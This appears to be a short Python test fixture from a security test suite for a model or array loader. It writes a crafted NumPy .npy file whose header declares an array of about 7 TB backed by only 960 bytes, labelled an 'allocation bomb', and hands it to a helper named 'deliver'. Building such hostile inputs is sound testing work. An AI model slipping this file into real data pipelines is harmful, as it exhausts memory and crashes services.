"""Declares an array of 7 TB, for a reader that allocates what the header says. Class: allocation bomb."""

from _accomplice import deliver

EXPECT = "predictions are"


def write(path):
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (60000000000, 15, 2)}"
    path.write_bytes(b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + bytes(960))


build_estimator = deliver(write)
